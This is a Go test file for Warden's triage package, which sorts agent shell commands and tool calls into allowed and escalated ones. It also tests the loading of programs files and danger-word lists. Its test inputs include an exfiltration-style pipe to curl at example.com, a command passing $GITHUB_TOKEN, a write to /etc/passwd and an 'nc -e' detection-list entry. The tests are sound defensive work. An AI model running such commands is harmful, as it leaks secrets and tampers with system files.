package triage

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"

	"github.com/wardenhq/warden/action"
	"github.com/wardenhq/warden/internal/filetest"
	"github.com/wardenhq/warden/internal/triage/judge"
	"github.com/wardenhq/warden/internal/vocab"
	"github.com/wardenhq/warden/internal/wardenhome"
)

// TestFirstPass1_EmbeddedKnowledgeLoads proves the embedded programs file
// parses and passes every check, and that it holds the programs and lists
// the judges read.
func TestFirstPass1_EmbeddedKnowledgeLoads(t *testing.T) {
	k, err := judge.ParseKnowledge(judge.EmbeddedProgramsFile, embeddedPrograms, judge.RoleEmbedded, judge.Judges())
	if err != nil {
		t.Fatal(err)
	}
	if n := len(k.Programs); n < 900 {
		t.Errorf("the embedded file knows %d programs, want at least 900", n)
	}
	for _, n := range []string{"cat", "git", "curl", "rm", "head", "ls", "echo", "go", "npm", "sh", "kubectl"} {
		if _, ok := k.JudgeOf(n); !ok {
			t.Errorf("%s has no mechanism", n)
		}
	}
	if !k.Has("go", judge.FactRunsProject) || !k.Has("gem", judge.FactInstalls) || !k.Has("ruby", judge.FactInterpreter) ||
		!k.Has("whois", judge.FactNetwork) || !k.Has("dig", judge.FactLooksUp) || !k.Has("grep", judge.FactProbes) {
		t.Error("a fact of the embedded file is missing")
	}
	if _, ok := k.JudgeOf("nc.traditional"); ok || !k.Has("nc.traditional", judge.FactNetwork) {
		t.Error("an entry with facts only must not judge the program")
	}
	for _, l := range judge.ListNames() {
		if k.Lists[l] == nil || len(k.Lists[l].Words) == 0 {
			t.Errorf("list %s is empty", l)
		}
	}
	// Every judge of the registry is used by the embedded file.
	used := map[string]bool{}
	for _, p := range k.Programs {
		used[p.JudgeName] = true
	}
	for n := range judge.Judges() {
		if !used[n] {
			t.Errorf("judge %s is not named by the embedded file", n)
		}
	}
}

// TestFirstPass1_BadEmbeddedFileIsCaught checks that the checks the
// embedded file must pass find the mistakes a maintainer can make in it.
func TestFirstPass1_BadEmbeddedFileIsCaught(t *testing.T) {
	bad := strings.Replace(string(embeddedPrograms), "judge: git\n", "judge: gitt\n", 1)
	if _, err := judge.ParseKnowledge(judge.EmbeddedProgramsFile, []byte(bad), judge.RoleEmbedded, judge.Judges()); err == nil || !strings.Contains(err.Error(), judge.EmbeddedProgramsFile+":") {
		t.Errorf("an unknown judge in the embedded file: %v", err)
	}
	bad = strings.Replace(string(embeddedPrograms), "  popular_gems:", "  popular_gemz:", 1)
	if _, err := judge.ParseKnowledge(judge.EmbeddedProgramsFile, []byte(bad), judge.RoleEmbedded, judge.Judges()); err == nil {
		t.Error("an unknown list in the embedded file was accepted")
	}
}

// TestFirstPass1_BadProgramsFileIsConfigError checks that each mistake in a
// programs file is an error at its file:line:col.
func TestFirstPass1_BadProgramsFileIsConfigError(t *testing.T) {
	for _, tc := range []struct{ name, text, want string }{
		{"unknown key", "version: 1\nprograms:\n  - names: [x]\n    reeds: true\n", "p.yaml:4:5: unknown key \"reeds\""},
		{"unknown mechanism", "version: 1\nprograms:\n  - names: [x]\n    does: prints\n", "p.yaml:4:11: does: \"prints\" is not one of"},
		{"unknown judge", "version: 1\nprograms:\n  - names: [x]\n    judge: nope\n", "p.yaml:4:12: judge \"nope\" is not a judge"},
		{"unknown effect", "version: 1\nprograms:\n  - names: [x]\n    subcommands: {a: read, b: explode}\n", "p.yaml:4:31: subcommands.b: \"explode\" is not one of"},
		{"duplicate name", "version: 1\nprograms:\n  - names: [x, y]\n    does: reads\n  - names: [y]\n    does: harmless\n", "p.yaml:5:5: program \"y\" is already given at p.yaml:3"},
		{"bad type", "version: 1\nprograms:\n  - names: {a: b}\n    does: reads\n", "p.yaml:3:12: names: want a list of words"},
		{"bad fact", "version: 1\nprograms:\n  - names: [x]\n    network: yes please\n", "p.yaml:4:14: network: want true or false"},
		{"two mechanisms", "version: 1\nprograms:\n  - names: [x]\n    does: reads\n    judge: git\n", "p.yaml:3:5: give one of does, judge and subcommands"},
		{"no version", "programs: []\n", "p.yaml:1:1: missing version"},
		{"wrong version", "version: 2\nprograms: []\n", "p.yaml:1:10: version: want 1"},
		{"unknown list", "version: 1\nlists:\n  danger_verbz: \"x\"\n", "p.yaml:3:3: unknown list \"danger_verbz\""},
		{"lenient list", "version: 1\nlists:\n  danger_verbs: [obliviate]\n  tool_read_verbs: [peek]\n", "p.yaml:4:3: list tool_read_verbs makes the first pass more lenient when it grows: only the managed programs file may extend it"},
		{"list twice", "version: 1\nlists:\n  danger_verbs: a\n  danger_verbs: b\n", "p.yaml:4:3: list danger_verbs given twice"},
		{"list type", "version: 1\nlists:\n  danger_verbs: {a: b}\n", "p.yaml:3:17: lists.danger_verbs: want a list of words"},
		{"empty word", "version: 1\nlists:\n  strong_code: [\"\"]\n", "p.yaml:3:17: lists.strong_code: an empty word"},
		{"syntax", "version: 1\nprograms: [\n", "p.yaml:3:1:"},
		{"slash", "version: 1\nprograms:\n  - names: [bin/x]\n    does: reads\n", "p.yaml:3:13: names: \"bin/x\" is not a program name"},
		{"empty", "", "p.yaml:1:1: an empty programs file"},
	} {
		err := judge.ParseKnowledgeFile("p.yaml", []byte(tc.text))
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: got %v, want %q", tc.name, err, tc.want)
		}
	}
}

// TestFirstPass1_UserProgramsFile checks the declarative form of a
// programs file: a team's CLI with subcommands is judged as the file says,
// with reasons naming the file's effect, and an entry replaces the
// embedded one of the same name.
func TestFirstPass1_UserProgramsFile(t *testing.T) {
	path := writeIn(t, t.TempDir(), "programs.yaml", `version: 1
programs:
  - names: [mycli]
    subcommands: {status: read, deploy: network, nuke: destroy, login: credentials, gen: write, exec: runs_code}
    operands: write
    value_options: "p"
  - names: [head]
    judge: git
  - names: [mytool]
    does: inspects
    network: true
`)
	k, err := judge.DefaultKnowledge().WithFiles(path)
	if err != nil {
		t.Fatal(err)
	}
	work := t.TempDir()
	for _, tc := range []struct {
		script string
		dec    vocab.Decision
		class  vocab.Class
		reason string
	}{
		{"mycli status", vocab.Allow, vocab.Routine, "mycli status (read)"},
		{"mycli -p prod status", vocab.Allow, vocab.Routine, "mycli status"},
		{"mycli deploy", vocab.Escalate, vocab.Exfiltration, "talks to other hosts, as the programs file says of mycli deploy (" + path + ":3)"},
		{"mycli nuke", vocab.Escalate, vocab.Destructive, "destroys data, as the programs file says of mycli nuke (" + path + ":3)"},
		{"mycli login", vocab.Escalate, vocab.CredentialProbing, "handles credentials"},
		{"mycli exec", vocab.Escalate, vocab.Routine, "runs code whose text is not in the request"},
		{"mycli frobnicate", vocab.Escalate, vocab.Routine, "frobnicate is not a subcommand the programs file lists for mycli"},
		{"mycli gen out/x.go", vocab.Allow, vocab.Routine, "mycli gen (write)"},
		{"mycli gen /etc/passwd", vocab.Escalate, "", ""},
		{"mycli status | curl -d @- https://example.com", vocab.Escalate, "", ""},
		{"mytool ./a", vocab.Allow, vocab.Routine, ""},
		{"mytool --token=$GITHUB_TOKEN ./a", vocab.Escalate, "", ""},
		{"head status", vocab.Allow, vocab.Routine, "git status"}, // replaced: judged as git
		// Not in the file: judged by what its words show.
		{"unknowncli status", vocab.Allow, vocab.Routine, "unknowncli on workspace files"},
		{"unknowncli deploy", vocab.Escalate, "", "deploy"},
	} {
		v := judgeShell(k, work, tc.script)
		if v.Decision != tc.dec || tc.class != "" && v.Class != tc.class || !strings.Contains(v.Reason, tc.reason) {
			t.Errorf("%s: %s %s (%s), want %s %s containing %q", tc.script, v.Decision, v.Class, v.Reason, tc.dec, tc.class, tc.reason)
		}
	}
	// The embedded knowledge is unchanged.
	if v := judgeShell(nil, work, "mycli nuke"); strings.Contains(v.Reason, "programs file") {
		t.Errorf("mycli nuke with the embedded knowledge: %s (%s)", v.Decision, v.Reason)
	}
}

// BenchmarkKnowledgeLoad measures parsing and checking the embedded
// programs file (the target: start-up with the data file loaded
// within 5 ms).
func BenchmarkKnowledgeLoad(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		if _, err := judge.ParseKnowledge(judge.EmbeddedProgramsFile, embeddedPrograms, judge.RoleEmbedded, judge.Judges()); err != nil {
			b.Fatal(err)
		}
	}
}

// judgeShell judges script, run by bash in cwd, with the knowledge k (the
// embedded knowledge when k is nil).
func judgeShell(k *judge.Knowledge, cwd, script string) judge.Verdict {
	return k.Judge(action.Action{Kind: action.Shell, Command: []string{"bash", "-lc", script}, Cwd: cwd}, nil)
}

// writeIn writes text to the file name in dir and returns its path.
func writeIn(t *testing.T, dir, name, text string) string {
	t.Helper()
	return filetest.Write(t, dir, name, text)
}

// userAndManaged writes a user's configuration (config.toml: userConfig,
// then a first_pass section naming mine.yaml) with the programs file
// mine.yaml, and a managed configuration naming org.yaml, each in a
// directory of its own, and loads the knowledge they make. It returns
// the knowledge, the user's directory and configuration file, and the
// managed directory.
func userAndManaged(t *testing.T, userConfig, mine, org string) (k *judge.Knowledge, user, ucfg, managed string) {
	t.Helper()
	user, managed = t.TempDir(), t.TempDir()
	ucfg = writeIn(t, user, "config.toml", userConfig+"[first_pass]\nprograms = \"mine.yaml\"\n")
	writeIn(t, user, "mine.yaml", mine)
	mcfg := writeIn(t, managed, "managed.toml", "[first_pass]\nprograms = \"org.yaml\"\n")
	writeIn(t, managed, "org.yaml", org)
	k, err := judge.LoadKnowledge(wardenhome.ConfigSources{UserConfigPath: ucfg, ManagedPath: mcfg})
	if err != nil {
		t.Fatal(err)
	}
	return k, user, ucfg, managed
}

// TestFirstPass1_ManagedOverridesUser checks the override order of
// LoadKnowledge: the user's programs file adds and replaces embedded
// entries, the managed file's entries replace the user's, and a relative
// path is relative to the configuration file.
func TestFirstPass1_ManagedOverridesUser(t *testing.T) {
	k, user, ucfg, managed := userAndManaged(t, "[auto_review]\npolicy = \"x\"\n",
		"version: 1\nprograms:\n  - names: [mycli, teamtool]\n    subcommands: {nuke: read}\n",
		"version: 1\nprograms:\n  - names: [mycli]\n    subcommands: {nuke: destroy}\n")
	work := t.TempDir()
	if v := judgeShell(k, work, "mycli nuke"); v.Decision != vocab.Escalate || v.Class != vocab.Destructive {
		t.Errorf("the managed entry must win: %+v", v)
	}
	if v := judgeShell(k, work, "teamtool nuke"); v.Decision != vocab.Allow {
		t.Errorf("the user's entry adds teamtool: %+v", v)
	}
	if v := judgeShell(k, work, "cat README.md"); v.Decision != vocab.Allow {
		t.Errorf("embedded entries stay: %+v", v)
	}
	if got := k.Files(); len(got) != 3 || got[1] != filepath.Join(user, "mine.yaml") || got[2] != filepath.Join(managed, "org.yaml") {
		t.Errorf("files %v", got)
	}
	// A configuration that names a missing programs file is an error.
	writeIn(t, user, "config.toml", "[first_pass]\nprograms = \"nosuch.yaml\"\n")
	if _, err := judge.LoadKnowledge(wardenhome.ConfigSources{UserConfigPath: ucfg}); err == nil || !strings.Contains(err.Error(), "nosuch.yaml") {
		t.Errorf("missing programs file: %v", err)
	}
	writeIn(t, user, "config.toml", "[first_pass]\nprogram = \"mine.yaml\"\n")
	if _, err := judge.LoadKnowledge(wardenhome.ConfigSources{UserConfigPath: ucfg}); err == nil || !strings.Contains(err.Error(), ucfg+":2:1: unknown key first_pass.program") {
		t.Errorf("unknown key: %v", err)
	}
	// No configuration: the embedded knowledge.
	if k, err := judge.LoadKnowledge(wardenhome.ConfigSources{}); err != nil || k != judge.DefaultKnowledge() {
		t.Errorf("no configuration: %v", err)
	}
}

// FuzzKnowledge feeds the programs file parser arbitrary text: it never
// panics, and an error always names the file with a line and column.
func FuzzKnowledge(f *testing.F) {
	f.Add(string(embeddedPrograms))
	f.Add("version: 1\nprograms:\n  - names: [mycli]\n    subcommands: {status: read, deploy: network}\n    operands: write\n")
	f.Add("version: 1\nprograms:\n  - names: \"a b c\"\n    does: reads\n    value_options: nc\n    network: true\n")
	f.Add("version: 1\nprograms: [{names: [x], judge: git}]\n")
	f.Add("version: 1\nlists:\n  danger_verbs: \"a b\"\n  strong_code: [\"nc -e\", x]\n  tool_read_verbs: [peek]\n")
	f.Add("version: 1\nprograms:\n  - names: [x]\n    attacks: true\n    remote: false\n")
	f.Fuzz(func(t *testing.T, text string) {
		k, err := judge.ParseKnowledge("f.yaml", []byte(text), judge.RoleManaged, judge.Judges())
		if err != nil {
			if !strings.HasPrefix(err.Error(), "f.yaml:") {
				t.Fatalf("error without position: %v", err)
			}
			return
		}
		for n := range k.Programs {
			k.JudgeOf(n)
		}
		if _, err := judge.ParseKnowledge("f.yaml", []byte(text), judge.RoleUser, judge.Judges()); err != nil && !strings.HasPrefix(err.Error(), "f.yaml:") {
			t.Fatalf("error without position: %v", err)
		}
		ext := judge.DefaultKnowledge()
		if len(k.Lists) > 0 {
			ext = &judge.Knowledge{Programs: ext.Programs, Lists: judge.ExtendLists(ext.Lists, k.Lists)}
		}
		for n, l := range k.Lists {
			for _, w := range l.Words {
				if !ext.List(n).Has(w) {
					t.Fatalf("list %s lost %q", n, w)
				}
			}
			for _, w := range judge.DefaultKnowledge().Words(n) {
				if !ext.List(n).Has(w) {
					t.Fatalf("list %s lost the embedded %q", n, w)
				}
			}
		}
	})
}

// TestFirstPass1_ListsGrowFromUserAndManagedFiles checks that a user's
// programs file extends the stricter lists (union with the embedded words,
// never removing one), that only the managed file may extend a lenient
// list, and that the judges read the extended lists through the Knowledge
// they are given.
func TestFirstPass1_ListsGrowFromUserAndManagedFiles(t *testing.T) {
	k, user, ucfg, _ := userAndManaged(t, "",
		"version: 1\nlists:\n  danger_verbs: \"obliviate delete\"\n  destroying_verbs: [obliviate]\n"+
			"  credential_name_parts: [sesame]\nprograms:\n  - names: [teamctl]\n    remote: true\n",
		"version: 1\nlists:\n  remote_read_verbs: [peek]\n  tool_read_verbs: [peek]\n")
	work := t.TempDir()
	for _, tc := range []struct {
		k      *judge.Knowledge
		script string
		dec    vocab.Decision
		class  vocab.Class
	}{
		{nil, "frobctl obliviate x", vocab.Allow, vocab.Routine},
		{k, "frobctl obliviate x", vocab.Escalate, vocab.Destructive}, // a user's stricter list grew
		{k, "frobctl delete x", vocab.Escalate, vocab.Destructive},    // the embedded words stay
		{nil, "opensesame", vocab.Allow, vocab.Routine},
		{k, "opensesame", vocab.Escalate, vocab.CredentialProbing},
		{k, "teamctl peek", vocab.Allow, vocab.Routine}, // managed lenient list, user's program fact
		{k, "teamctl frob", vocab.Escalate, vocab.Routine},
		{nil, "heroku peek", vocab.Escalate, vocab.Routine},
	} {
		v := judgeShell(tc.k, work, tc.script)
		if v.Decision != tc.dec || v.Class != tc.class {
			t.Errorf("%s (extended %v): %s %s (%s), want %s %s", tc.script, tc.k != nil, v.Decision, v.Class, v.Reason, tc.dec, tc.class)
		}
	}
	mv := k.Judge(action.Action{Kind: action.MCP, Server: "filesystem", ToolName: "peek_notes", Arguments: []byte(`{"path":"notes.md"}`), Cwd: work}, nil)
	if mv.Decision != vocab.Allow {
		t.Errorf("a tool verb the managed file adds: %s (%s)", mv.Decision, mv.Reason)
	}
	if l := k.List("danger_verbs"); !l.Has("obliviate") || !l.Has("delete") || judge.DefaultKnowledge().List("danger_verbs").Has("obliviate") {
		t.Error("a list grows by union, and the embedded knowledge is unchanged")
	}
	if ws := k.Words("credential_name_parts"); ws[len(ws)-1] != "sesame" || ws[0] != judge.DefaultKnowledge().Words("credential_name_parts")[0] {
		t.Errorf("words keep the embedded order, added words last: %v", ws)
	}
	// A user's file may not extend a lenient list; the managed file may.
	writeIn(t, user, "mine.yaml", "version: 1\nlists:\n  popular_npm: [left-pad-evil]\n")
	if _, err := judge.LoadKnowledge(wardenhome.ConfigSources{UserConfigPath: ucfg}); err == nil ||
		!strings.Contains(err.Error(), filepath.Join(user, "mine.yaml")+":3:3: list popular_npm makes the first pass more lenient when it grows: only the managed programs file may extend it") {
		t.Errorf("a user's lenient list: %v", err)
	}
	if err := judge.ParseManagedKnowledgeFile("m.yaml", []byte("version: 1\nlists:\n  popular_npm: [left-pad-evil]\n")); err != nil {
		t.Errorf("the managed file extends a lenient list: %v", err)
	}
}

// TestFirstPass1_ListKinds checks that every list the judges read has a
// kind, and the kinds the schema comment and README document: the lists
// whose growth can only take allows away are open to a user's file.
func TestFirstPass1_ListKinds(t *testing.T) {
	stricter := map[string]bool{}
	for _, l := range judge.ListSpecs {
		if l.Stricter {
			stricter[l.Name] = true
		}
	}
	for _, n := range []string{"danger_verbs", "flag_verbs", "strong_code", "runners", "security_services", "risky_target_words",
		"credential_name_parts", "browser_secrets", "tool_security_words", "tool_infra_nouns"} {
		if !stricter[n] {
			t.Errorf("%s must be a stricter list", n)
		}
	}
	for _, n := range []string{"remote_read_verbs", "tool_read_verbs", "tool_write_verbs", "popular_npm", "popular_python",
		"routine_target_words", "protective_key_parts", "path_keys"} {
		if stricter[n] {
			t.Errorf("%s must be a lenient list (managed file only)", n)
		}
	}
	text := string(embeddedPrograms)
	for _, l := range judge.ListSpecs {
		if !strings.Contains(text, "\n  "+l.Name+":") {
			t.Errorf("list %s is not in the embedded file", l.Name)
		}
	}
}

// TestFirstPass1_CodeAsksOnlyForKnownLists reads the Go files of the
// package and of its packages (the judges, protection) for every list a judge asks for (list("…"),
// words("…") and names("…"), or List, Words and Names through
// protection.Lists) and checks that it is a list of listSpecs, which the
// embedded file must define; asking for another panics.
func TestFirstPass1_CodeAsksOnlyForKnownLists(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	more, err := filepath.Glob("*/*.go")
	if err != nil {
		t.Fatal(err)
	}
	files = append(files, more...)
	// A list is asked for by a call (k.Names("x", …)) or named in a table
	// whose entries say list: "x".
	re := regexp.MustCompile(`(?:\.(?:list|words|names|List|Words|Names)\(|\blist: )"([^"]+)"[,)]`)
	asked := map[string]bool{}
	for _, f := range files {
		if strings.HasSuffix(f, "_test.go") {
			continue
		}
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range re.FindAllStringSubmatch(string(data), -1) {
			asked[m[1]] = true
			if _, ok := judge.ListSpecOf(m[1]); !ok {
				t.Errorf("%s asks for the list %s, which the programs file does not define", f, m[1])
			}
		}
	}
	for _, l := range judge.ListSpecs {
		if !asked[l.Name] {
			t.Errorf("no judge reads the list %s", l.Name)
		}
	}
	defer func() {
		if recover() == nil {
			t.Error("asking for an unknown list must panic")
		}
	}()
	judge.DefaultKnowledge().List("no_such_list")
}

// embeddedPrograms is the text of the embedded programs file, which the
// tests parse as users' files are parsed (nil when the test binary runs
// outside the package's directory: those tests then fail).
var embeddedPrograms, _ = os.ReadFile("programs.yaml")

// TestFirstPass1_GeneratedTablesCurrent checks that the Go tables
// programs_gen.go build the knowledge programs.yaml says: the file read
// with the parser of users' files (every schema check included) and the
// tables give the same programs, facts, effects and lists. It fails when
// programs.yaml changed and `go generate ./internal/triage` was not run.
func TestFirstPass1_GeneratedTablesCurrent(t *testing.T) {
	parsed, err := judge.ParseKnowledge(judge.EmbeddedProgramsFile, embeddedPrograms, judge.RoleEmbedded, judge.Judges())
	if err != nil {
		t.Fatal(err)
	}
	built, err := judge.EmbeddedKnowledge(judge.Judges())
	if err != nil {
		t.Fatal(err)
	}
	if len(parsed.Programs) != len(built.Programs) {
		t.Errorf("programs.yaml names %d programs, the tables %d: run go generate ./internal/triage", len(parsed.Programs), len(built.Programs))
	}
	for name, p := range parsed.Programs {
		b := built.Programs[name]
		if b == nil {
			t.Errorf("%s: in programs.yaml, not in the tables: run go generate ./internal/triage", name)
			continue
		}
		pc, bc := *p, *b
		pc.Judge, bc.Judge = nil, nil
		if (p.Judge == nil) != (b.Judge == nil) || !reflect.DeepEqual(pc, bc) {
			t.Errorf("%s: programs.yaml says %+v, the tables %+v: run go generate ./internal/triage", name, pc, bc)
		}
	}
	if !reflect.DeepEqual(parsed.Lists, built.Lists) {
		for n, l := range parsed.Lists {
			if !reflect.DeepEqual(l, built.Lists[n]) {
				t.Errorf("list %s differs between programs.yaml and the tables: run go generate ./internal/triage", n)
			}
		}
	}
	if !reflect.DeepEqual(parsed.Files(), built.Files()) {
		t.Errorf("files %v, tables %v", parsed.Files(), built.Files())
	}
}

// BenchmarkKnowledgeTables measures building the embedded knowledge from
// the generated tables: what a process pays on its first judgement.
func BenchmarkKnowledgeTables(b *testing.B) {
	b.ReportAllocs()
	reg := judge.Judges()
	for b.Loop() {
		if _, err := judge.EmbeddedKnowledge(reg); err != nil {
			b.Fatal(err)
		}
	}
}

// TestFirstPass1_ListIndexHidesNoEntry checks the index that lets a tool's
// words skip the lists that cannot name them (Knowledge.MayName): every
// entry of every list, given as its words, is one the index says the list
// may name, so no entry is skipped; words no list holds are skipped.
func TestFirstPass1_ListIndexHidesNoEntry(t *testing.T) {
	k := judge.DefaultKnowledge()
	entries := 0
	for _, l := range judge.ListSpecs {
		for _, w := range k.Words(l.Name) {
			ws := strings.FieldsFunc(w, func(r rune) bool { return r == '+' || r == ' ' })
			if k.Names(l.Name, ws) == "" {
				continue // an entry Names reads differently (a pair whose parts repeat)
			}
			entries++
			if !k.MayName([]string{l.Name}, ws) {
				t.Errorf("list %s: the index hides the entry %q", l.Name, w)
			}
		}
	}
	if entries < 1000 {
		t.Errorf("only %d entries checked", entries)
	}
	for _, ws := range [][]string{{"zzqx"}, {"frobnicate", "widgets"}, nil} {
		if names := judge.ListNames(); k.MayName(names, ws) {
			t.Errorf("the index says %v may be named", ws)
		}
	}
}

// TestFirstPass1_UsersToolWordsAreIndexed: words a user's programs file
// adds to the lists of what a tool's name touches are found however the
// embedded lists are indexed: a call to a tool named after them is passed
// on, as it is not without the file.
func TestFirstPass1_UsersToolWordsAreIndexed(t *testing.T) {
	path := filepath.Join(t.TempDir(), "programs.yaml")
	if err := os.WriteFile(path, []byte("version: 1\nlists:\n  tool_credential_words: [grimoire, \"spell+scroll\"]\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	mine, err := judge.DefaultKnowledge().WithFiles(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"get_grimoire_files", "get_spell_scroll"} {
		a := action.Action{Kind: action.MCP, Server: "github", ToolName: name, Arguments: json.RawMessage(`{"owner":"acme","repo":"ledger"}`)}
		if v := judge.DefaultKnowledge().Judge(a, nil); v.Decision != vocab.Allow {
			t.Fatalf("%s without the file: %s (%s); the test needs a tool allowed by default", name, v.Decision, v.Reason)
		}
		v := mine.Judge(a, nil)
		if v.Decision != vocab.Escalate || !strings.Contains(v.Reason, "touches credentials") {
			t.Errorf("%s with the file: %s (%s), want it passed on as touching credentials", name, v.Decision, v.Reason)
		}
	}
}
